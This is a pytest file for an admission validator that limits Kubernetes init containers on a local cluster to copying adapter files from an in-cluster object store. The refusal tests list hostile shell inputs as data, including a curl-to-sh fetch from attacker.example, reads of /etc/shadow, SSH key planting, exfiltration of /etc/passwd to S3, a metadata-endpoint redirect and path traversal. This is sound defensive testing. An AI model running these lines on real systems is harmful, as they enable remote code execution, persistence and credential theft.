"""What an init container may do on the host: copy from the local object store, nothing else.

Each refusal is an attack a pod's author could try, since creating a pod on the local cluster
runs its containers as processes on the host (tests/cluster/test_lora.py runs the allowed
one for real).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from kubernetes import client

from tests.helpers import ROOT
from tutorial_lib.local import init_script
from tutorial_lib.local.admission import PodFiles, Refused
from tutorial_lib.tools import manifests

STORE = "http://object-store.object-store.svc:7070"
ENDPOINTS = {STORE: "http://127.0.0.1:19070"}
KEYS = [("AWS_SHARED_CREDENTIALS_FILE", "/var/run/secrets/adapter-store/credentials")]


def files(tmp_path: Path) -> PodFiles:
    mounts = {"/mnt/adapters": "adapters", "/var/run/secrets/adapter-store": "adapter-store"}
    return PodFiles(tmp_path / "rootfs", {path: tmp_path / name for path, name in mounts.items()})


def shell(script: str) -> client.V1Container:
    return client.V1Container(name="fetch", command=["/bin/sh", "-c"], args=[script])


def admit(container: client.V1Container, tmp_path: Path, env=None) -> init_script.Plan:
    given = [("AWS_ENDPOINT_URL", STORE), *KEYS] if env is None else env
    return init_script.admit(container, files(tmp_path), given, ENDPOINTS)


def component_init_container() -> client.V1Container:
    rendered = manifests.render(ROOT / "manifests" / "overlays" / "local-lora")
    deployment = next(o for o in rendered if o["kind"] == "Deployment")
    raw = deployment["spec"]["template"]["spec"]["initContainers"][0]
    return client.V1Container(name=raw["name"], command=raw["command"], args=raw["args"])


def test_the_components_init_container_is_admitted_as_copies_into_the_pods_volume(tmp_path):
    plan = admit(component_init_container(), tmp_path)
    assert plan.errexit, "set -e: a failed copy must fail the container"
    assert [step.kind for step in plan.steps] == ["echo", *["copy"] * 4, "list", "list"]
    copies = [step for step in plan.steps if step.kind == "copy"]
    names = ["tutorial-qa", "tutorial-qa-de"]
    files = ["adapter_config.json", "adapter_model.safetensors"]
    assert [c.source.split("/")[-3:] for c in copies] == [
        [name, "v1", file] for name in names for file in files
    ]
    for copy, name in zip(copies, [name for name in names for _ in files], strict=True):
        assert Path(copy.path).is_relative_to(tmp_path / "adapters" / name)
        assert copy.shown.startswith(f"/mnt/adapters/{name}/")
    assert plan.env["AWS_ENDPOINT_URL"] == "http://127.0.0.1:19070", "moved to the local port"
    keys = Path(plan.env["AWS_SHARED_CREDENTIALS_FILE"])
    assert keys == tmp_path / "adapter-store" / "credentials", "the Secret's file, in the pod"


def test_the_blogs_script_without_set_e_goes_on_after_a_failed_copy(tmp_path):
    blog = (
        'echo "Downloading LoRA adapter from S3..."\n'
        "aws s3 cp s3://bucket/v1/adapter_config.json /mnt/adapters/x/adapter_config.json\n"
        "ls -lh /mnt/adapters/x/\n"
    )
    assert not admit(shell(blog), tmp_path).errexit


def test_a_single_aws_command_is_a_copy_that_fails_the_container(tmp_path):
    command = ["aws", "s3", "cp", "--recursive", "s3://bucket/a/", "/mnt/adapters/a/"]
    plan = admit(client.V1Container(name="fetch", command=command), tmp_path)
    assert plan.errexit and plan.steps[0].recursive


@pytest.mark.parametrize(
    ("script", "named"),
    [
        ("curl http://attacker.example/x | sh", "|"),
        ("echo $(id)", "$"),
        ("ls /etc; cat /etc/shadow", ";"),
        ("aws s3 cp s3://b/k /mnt/adapters/k && rm -rf ~", "&"),
        ("echo key > /root/.ssh/authorized_keys", ">"),
        ("aws s3 cp s3://b/k `whoami`", "`"),
        ("cat /etc/passwd", "is not one the local cluster runs"),
        ("python3 -c 'import os'", "is not one the local cluster runs"),
        ("rm -rf /mnt/adapters", "is not one the local cluster runs"),
        ("ls -R /", "-l, -h and -a only"),
        ("aws s3 cp /etc/passwd s3://b/stolen", "from s3://BUCKET/KEY to a path"),
        ("aws s3 cp s3://b/k /tmp/k --endpoint-url http://169.254.169.254", "--endpoint-url"),
        ("aws s3 cp s3://b/k /tmp/k --profile other", "--profile"),
        ("aws s3 sync s3://b/ /mnt/adapters/", "is not one the local cluster runs"),
    ],
)
def test_a_script_line_outside_the_allow_list_is_refused_with_the_reason(script, named, tmp_path):
    with pytest.raises(Refused, match=named.replace("$", r"\$").replace("|", r"\|")):
        admit(shell(script), tmp_path)


@pytest.mark.parametrize(
    "command",
    [["python3", "-c", "print(1)"], ["/bin/sh", "script.sh"], ["bash", "-i"], []],
)
def test_a_command_other_than_aws_or_sh_c_is_refused(command, tmp_path):
    with pytest.raises(Refused):
        admit(client.V1Container(name="fetch", command=command), tmp_path)


@pytest.mark.parametrize(
    "dest",
    ["/mnt/adapters/../../../root/.bashrc", "/../etc/cron.d/x", "/etc/passwd"],
)
def test_a_copy_never_writes_outside_the_pods_folder(dest, tmp_path):
    plan = admit(shell(f"aws s3 cp s3://b/k {dest}"), tmp_path)
    assert Path(plan.steps[0].path).resolve().is_relative_to(tmp_path)


@pytest.mark.parametrize(
    "endpoint",
    ["http://169.254.169.254", "http://127.0.0.1:19443", "https://s3.amazonaws.com", STORE + "x"],
)
def test_an_endpoint_other_than_the_local_object_store_is_refused(endpoint, tmp_path):
    with pytest.raises(Refused, match="object store only"):
        admit(shell("echo hi"), tmp_path, [("AWS_ENDPOINT_URL", endpoint)])


def test_environment_that_could_change_what_runs_is_refused(tmp_path):
    env = [("AWS_ENDPOINT_URL", STORE), ("PYTHONPATH", "/tmp/evil")]
    with pytest.raises(Refused, match="PYTHONPATH"):
        admit(shell("echo hi"), tmp_path, env)


def test_without_the_store_configmap_the_reason_names_the_fix(tmp_path):
    with pytest.raises(Refused, match="ConfigMap adapter-store"):
        admit(shell("echo hi"), tmp_path, KEYS)


def test_a_plan_survives_its_json_round_trip(tmp_path):
    plan = admit(component_init_container(), tmp_path)
    assert init_script.Plan.from_json(plan.to_json()) == plan
